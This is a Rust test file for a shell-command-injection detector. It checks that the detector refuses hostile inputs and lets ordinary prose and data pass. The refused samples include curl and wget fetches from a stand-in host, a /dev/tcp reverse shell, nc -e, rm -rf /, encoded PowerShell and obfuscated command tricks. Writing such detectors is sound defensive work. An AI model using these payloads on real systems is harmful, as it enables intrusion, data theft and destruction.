//! The shell detector on attacks, on what looks like one and is none, and on any bytes.

use super::Shell;
use crate::{
    detectors::trial::{Trial, is_linear, lets_pass, never_panics, refuses},
    leaf::{Field, Where},
};

#[test]
fn commands_after_a_separator() {
    refuses(
        &Shell,
        "command_after_separator",
        &[
            "; cat /etc/hosts.allow",
            "x;id",
            "127.0.0.1; ls -la",
            "1 | whoami",
            "x || ping -c 3 203.0.113.9 ||",
            "8.8.8.8 && uname -a",
            "x;/usr/bin/id",
            "a)|id",
            "1;nohup curl http://evil.example/x.sh",
            "1;TERM=x wget http://evil.example/x",
            "x;timeout 5 nslookup evil.example",
            "1|base64 -d",
            "; rm -rf /",
            "x& net user",
            "& dir C:\\",
            "|powershell -enc SQBFAFgA",
            "&certutil -urlcache -f http://evil.example/a a",
            "x;bash -i",
            "1;python3 -c 'import os'",
            "; echo hi > /var/www/x",
        ],
    );
}

#[test]
fn hidden_commands() {
    refuses(
        &Shell,
        "command_after_separator",
        &[
            ";w'h'o'am'i",
            ";c\\at /etc/motd",
            ";c\"\"at /etc/motd",
            ";who$@ami",
            ";wh``oami",
            ";{cat,/etc/motd}",
            ";cat$u /etc$u/motd$u",
            ";+$u+cat+/etc$u/motd$u",
            "&w^h^o^a^m^i",
        ],
    );
    refuses(&Shell, "hidden_blank", &["x;cat$IFS/etc/motd", "ping${IFS}evil.example", "cat$IFS$9x"]);
    refuses(
        &Shell,
        "sliced_variable",
        &["cat ${HOME:0:1}etc${HOME:0:1}motd", "%COMSPEC:~0,1%md", "x${PWD%%[a-z]*}y"],
    );
    refuses(
        &Shell,
        "wildcard_path",
        &[
            "/e?c/p?ss?d",
            "zcat /e*c/p*s*d",
            "../et*/pas**d",
            "x /???/??ss??",
            "|/???/b**\\h",
            ";/b?n/c?t /etc/motd",
        ],
    );
}

#[test]
fn commands_in_substitutions_and_on_lines() {
    refuses(
        &Shell,
        "command_substitution",
        &["$(id)", "x$(sleep 5)y", "a $(curl http://evil.example)", "<(cat /etc/motd)"],
    );
    refuses(&Shell, "command_in_backticks", &["`id`", "x`ping evil`", "`sleep 5`"]);
    refuses(
        &Shell,
        "command_on_new_line",
        &["x\nid", "1\r\ncat /etc/motd", "%0a ls -la", "\\nid;", "a\nwget http://evil.example/a"],
    );
}

#[test]
fn commands_as_values() {
    refuses(
        &Shell,
        "command_as_value",
        &[
            "cat /etc/motd",
            "ls -l /var",
            "wget http://evil.example/x",
            "whoami",
            "ipconfig /all",
            "nc -lvp 4445 -e x",
            "sudo ls -la",
        ],
    );
    assert_eq!(Trial::new("id").name("cmd").score(&Shell), 10);
    assert_eq!(Trial::new("id").score(&Shell), 0);
}

#[test]
fn marks() {
    refuses(&Shell, "function_as_variable", &["() { :; }; echo x", "() { ignored; };; echo y"]);
    refuses(&Shell, "shell_socket", &["x >& /dev/tcp/192.0.2.1/4444 0>&1"]);
    refuses(&Shell, "server_side_include", &["<!--#exec cmd=\"ls\" -->", "<!--#include virtual=\"/x\" -->"]);
    refuses(
        &Shell,
        "option_that_runs_command",
        &["x -oProxyCommand=id", "--upload-pack=id", "-d allow_url_include=on"],
    );
    refuses(
        &Shell,
        "call_that_runs_command",
        &["system('id')", "eval(\"sleep 5\")", "exec('ls')", "x=system(ipconfig)"],
    );
    refuses(&Shell, "powershell_code", &["(New-Object Net.WebClient).DownloadString('x')"]);
}

#[test]
fn prose_and_data_pass() {
    lets_pass(
        &Shell,
        &[
            "cats & dogs; sleep well",
            "AT&T",
            "a | b",
            "Oxygen & Sleep Associates Inc",
            "R&D; time to host a party",
            "wait; sleep",
            "echo in the mirror",
            "exec noun",
            "bash away in the gym",
            "nc 8000 controller",
            "find me a cat",
            "The parameter 5 is&|.",
            "text/html; charset=utf-8",
            "a=1&id=2&sort=date&host=example.com",
            "https://shop.example/list?sort=asc&id=5&date",
            "session=abc; path=/; id=3",
            "| Name | Date |\n|------|------|\n| cat | 3 |",
            "Who cares? I can't sleep, who can; more later.",
            "I set the date; more on that (see head office)",
            "price: $(5) or ${amount}",
            "SELECT id | name",
            "Tom & Jerry\nCat & Mouse\nEcho & Narcissus",
            "python repositories:>950",
            "sort(by) & top(3)",
        ],
    );
}

#[test]
fn products_of_an_agent_are_no_commands() {
    let agent =
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7; id) AppleWebKit/537.36 (KHTML, like Gecko) curl/7.1";
    assert!(
        Trial::new(agent).at(Where::Header).field(Field::UserAgent).name("user-agent").score(&Shell) <= 3
    );
    let forged = "x; cat /etc/motd";
    assert_eq!(
        Trial::new(forged).at(Where::Header).field(Field::UserAgent).name("user-agent").score(&Shell),
        10
    );
}

#[test]
fn code_and_texts_weigh_less() {
    let script = "#!/bin/sh\nset -e\ncd /srv && git pull; curl -s http://x/y | sh\n";
    assert!(Trial::new(script).at(Where::Body).field(Field::Code).score(&Shell) <= 3);
    let line = "cd src && ls -la";
    assert!(Trial::new(line).at(Where::Body).field(Field::Prose).score(&Shell) <= 5);
    let text =
        "To list the files run `ls -la` in your terminal and then look at what it says about the owner.";
    assert!(Trial::new(text).at(Where::Body).field(Field::Prose).score(&Shell) <= 5);
    let short = "127.0.0.1; cat /etc/motd";
    assert_eq!(Trial::new(short).at(Where::Body).field(Field::Prose).score(&Shell), 10);
}

#[test]
fn a_segment_of_a_path_may_be_named_as_a_command() {
    for segment in ["history", "whoami", "id", "cat", "date"] {
        assert_eq!(
            Trial::new(segment).at(Where::Path).field(Field::Token).name("").score(&Shell),
            0,
            "{segment}"
        );
    }
}

const FRAGMENTS: &[&str] = &[
    ";",
    "|",
    "&",
    "`",
    "$(",
    ")",
    "${IFS}",
    "$IFS$9",
    "$@",
    "'",
    "\"",
    "\\",
    "^",
    "cat",
    "id",
    " ",
    "/etc/passwd",
    "/???/",
    "{",
    ",",
    "}",
    "<(",
    "\n",
    "%0a",
    "\\n",
    "sudo ",
    "A=b ",
    "$((",
    "system('",
    "() {",
    "<!--#",
    "%A:~",
    "0,1%",
    "${PATH:0:1}",
    "+",
    "\u{200b}",
    "-c",
    "*",
];

#[test]
fn any_value_is_read() {
    never_panics(&Shell, FRAGMENTS);
}

#[test]
fn long_values_are_read_once() {
    is_linear(&Shell, FRAGMENTS);
    is_linear(&Shell, &[";cat", "a;b", "$(a", "\\na", "%0acat x", "/?a", "${a", ";'a", "exec('a", "eval("]);
}
